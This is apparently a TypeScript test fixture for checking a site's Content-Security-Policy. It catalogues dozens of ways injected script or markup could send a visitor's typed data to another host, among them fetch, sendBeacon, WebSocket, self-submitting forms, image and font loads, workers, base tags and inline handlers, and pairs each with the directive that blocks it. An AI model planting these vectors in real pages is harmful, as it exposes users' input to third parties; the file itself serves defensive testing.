/** Code that sends typed data elsewhere, as a careless or malicious change might add. */
export interface Plant {
  readonly name: string;
  /** `elsewhere` is another host, `here` the page's own address, `typed` what a visitor has entered. */
  readonly code: string;
  /** The part of the policy that blocks it; `throws` where the browser doesn't even try. */
  readonly stoppedBy: string;
}

const element = (tag: string, properties: string): string =>
  `document.body.append(Object.assign(document.createElement('${tag}'), {${properties}}))`;

const link = (rel: string, more = ''): string =>
  `document.head.append(Object.assign(document.createElement('link'), {rel: '${rel}', href: elsewhere + '/?${rel}', ${more}}))`;

/** A form that submits itself, bypassing the page's own check of forms. */
const form = (action: string, method: string): string =>
  `const form = Object.assign(document.createElement('form'), {action: ${action}, method: '${method}'});
   form.append(Object.assign(document.createElement('input'), {name: 'weight', value: typed}));
   document.body.append(form); HTMLFormElement.prototype.submit.call(form)`;

const markup = (html: string): string =>
  `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)}.replaceAll('ELSEWHERE', elsewhere))`;

/** Everything that sends or fetches. */
const CALLS: readonly Plant[] = [
  { name: 'fetch', code: `fetch(elsewhere + '/?' + typed)`, stoppedBy: 'connect-src' },
  {
    name: 'fetch with a body, not asking for an answer',
    code: `fetch(elsewhere, {method: 'POST', mode: 'no-cors', keepalive: true, body: typed})`,
    stoppedBy: 'connect-src',
  },
  { name: 'fetch to ourselves', code: `fetch(here + '?' + typed)`, stoppedBy: 'connect-src' },
  { name: 'sendBeacon', code: `navigator.sendBeacon(elsewhere, typed)`, stoppedBy: 'connect-src' },
  { name: 'sendBeacon to ourselves', code: `navigator.sendBeacon(here, typed)`, stoppedBy: 'connect-src' },
  {
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('POST', elsewhere); request.send(typed)`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'WebSocket',
    code: `new WebSocket(elsewhere.replace('http', 'ws') + '/?' + typed)`,
    stoppedBy: 'connect-src',
  },
  { name: 'EventSource', code: `new EventSource(elsewhere + '/?' + typed)`, stoppedBy: 'connect-src' },
  {
    name: 'WebTransport',
    code: `new WebTransport(elsewhere.replace('http', 'https') + '/?' + typed)`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'the ping of a link',
    code: `const link = Object.assign(document.createElement('a'), {href: '#top', ping: elsewhere + '/?' + typed, textContent: 'Top'}); document.body.append(link); link.click()`,
    stoppedBy: 'connect-src',
  },
  { name: 'form', code: form(`elsewhere`, 'post'), stoppedBy: 'form-action' },
  { name: 'form that reads', code: form(`elsewhere`, 'get'), stoppedBy: 'form-action' },
  { name: 'form to ourselves', code: form(`here`, 'get'), stoppedBy: 'form-action' },
];

/** Everything that loads something, and could carry a value in its address. */
const LOADS: readonly Plant[] = [
  { name: 'image', code: `new Image().src = elsewhere + '/?' + typed`, stoppedBy: 'img-src' },
  {
    name: 'image in a style',
    code: `document.body.style.backgroundImage = 'url(' + elsewhere + '/?' + typed + ')'`,
    stoppedBy: 'img-src',
  },
  {
    name: 'font',
    code: `new FontFace('planted', 'url(' + elsewhere + '/?' + typed + ')').load()`,
    stoppedBy: 'font-src',
  },
  { name: 'video', code: element('video', `src: elsewhere + '/?' + typed`), stoppedBy: 'media-src' },
  {
    name: 'object',
    code: element('object', `data: elsewhere + '/?' + typed`),
    stoppedBy: 'object-src',
  },
  { name: 'embed', code: element('embed', `src: elsewhere + '/?' + typed`), stoppedBy: 'object-src' },
  { name: 'frame', code: element('iframe', `src: elsewhere + '/?' + typed`), stoppedBy: 'frame-src' },
  { name: 'frame of ourselves', code: element('iframe', `src: here + '?' + typed`), stoppedBy: 'frame-src' },
  { name: 'script', code: element('script', `src: elsewhere + '/?' + typed`), stoppedBy: 'script-src-elem' },
  {
    name: 'script as data',
    code: element('script', `src: 'data:text/javascript,document.title=1'`),
    stoppedBy: 'script-src-elem',
  },
  { name: 'import', code: `import(elsewhere + '/?' + typed)`, stoppedBy: 'script-src-elem' },
  {
    name: 'worker',
    code: `new Worker(elsewhere + '/?' + typed)`,
    stoppedBy: 'throws SecurityError',
  },
  {
    name: 'worker made of text',
    code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + elsewhere + '")'])))`,
    stoppedBy: 'worker-src',
  },
  {
    name: 'shared worker made of text',
    code: `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + elsewhere + '")'])))`,
    stoppedBy: 'worker-src',
  },
  {
    name: 'another offline worker',
    code: `return navigator.serviceWorker.register(elsewhere + '/?' + typed)`,
    stoppedBy: 'throws SecurityError',
  },
  {
    name: 'worklet',
    code: `return CSS.paintWorklet.addModule(elsewhere + '/?' + typed)`,
    stoppedBy: 'throws AbortError',
  },
  { name: 'style sheet', code: link('stylesheet'), stoppedBy: 'style-src-elem' },
  { name: 'prefetch', code: link('prefetch'), stoppedBy: 'default-src' },
  { name: 'preload', code: link('preload', `as: 'image'`), stoppedBy: 'img-src' },
  { name: 'module preload', code: link('modulepreload'), stoppedBy: 'script-src-elem' },
  { name: 'icon', code: link('icon'), stoppedBy: 'img-src' },
  {
    name: 'base',
    code: `document.head.prepend(Object.assign(document.createElement('base'), {href: elsewhere})); new Image().src = 'favicon.svg'`,
    stoppedBy: 'base-uri',
  },
  {
    name: 'payment',
    code: `new PaymentRequest([{supportedMethods: elsewhere}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}})`,
    stoppedBy: 'throws SecurityError',
  },
];

/** Everything that creates code or styles from text. */
const TEXTS: readonly Plant[] = [
  { name: 'eval', code: `(0, eval)('document.title = 1')`, stoppedBy: 'script-src' },
  { name: 'new Function', code: `new Function('document.title = 1')()`, stoppedBy: 'script-src' },
  { name: 'a text for a timer', code: `setTimeout('document.title = 1')`, stoppedBy: 'script-src' },
  {
    name: 'inline script',
    code: element('script', `textContent: 'document.title = 1'`),
    stoppedBy: 'script-src-elem',
  },
  {
    name: 'inline handler',
    code: markup('<img src="/favicon.svg" onload="document.title = 1">'),
    stoppedBy: 'script-src-attr',
  },
  {
    name: 'link that is a script',
    code: element('a', `href: 'javascript:document.title=1', id: 'planted'`) + `; planted.click()`,
    stoppedBy: 'script-src-elem',
  },
  {
    name: 'inline style',
    code: element('style', `textContent: 'p { color: red }'`),
    stoppedBy: 'style-src-elem',
  },
  { name: 'style attribute', code: markup('<p style="color: red">'), stoppedBy: 'style-src-attr' },
  {
    name: 'speculation rules',
    code: element(
      'script',
      `type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: [elsewhere + '/?' + typed]}]})`,
    ),
    stoppedBy: 'script-src-elem',
  },
];

export const PLANTS: readonly Plant[] = [...CALLS, ...LOADS, ...TEXTS];

/** All of them as one script: `plants[name]()` runs one, and `said[name]` is the browser's error. */
export const plantedScript = (elsewhere: string): string => `;
(() => {
  const elsewhere = ${JSON.stringify(elsewhere)}, here = location.origin + location.pathname, typed = '71.3';
  let heard = [];
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.push(effectiveDirective));
  window.said = {};
  window.plants = {};
  const plant = (name, code) => {
    plants[name] = () => {
      const own = heard = said[name] = [];
      code().catch((error) => own.push('throws ' + error.name));
    };
  };
  ${PLANTS.map(({ name, code }) => `plant(${JSON.stringify(name)}, async () => { ${code} });`).join('\n')}
})();`;

/** Markup that would send or run something, as hostile text might contain. */
export const plantedMarkup = (elsewhere: string): string =>
  `<script>document.title = 'planted'</script>
  <base href="${elsewhere}/">
  <img src="${elsewhere}/image" onerror="document.title = 'planted'">
  <style>body { background: url(${elsewhere}/style) }</style>
  <p style="background: url(${elsewhere}/attribute)">
  <script src="${elsewhere}/script"></script>
  <script type="module" src="${elsewhere}/module"></script>
  <link rel="stylesheet" href="${elsewhere}/sheet"><link rel="prefetch" href="${elsewhere}/prefetch">
  <link rel="preload" as="image" href="${elsewhere}/preload"><link rel="modulepreload" href="${elsewhere}/modulepreload">
  <link rel="icon" href="${elsewhere}/icon"><link rel="manifest" href="${elsewhere}/manifest">
  <iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
  <iframe srcdoc="<script>top.document.title = 'planted'; top.location = '${elsewhere}/inside'</script>"></iframe>
  <video src="${elsewhere}/video" poster="${elsewhere}/poster"></video><audio src="${elsewhere}/audio"></audio>
  <svg><use href="${elsewhere}/use#a"></use><image href="${elsewhere}/drawing"></image><script>document.title = 'planted'</script></svg>
  <form action="${elsewhere}/form"><button>Planted</button></form>`;
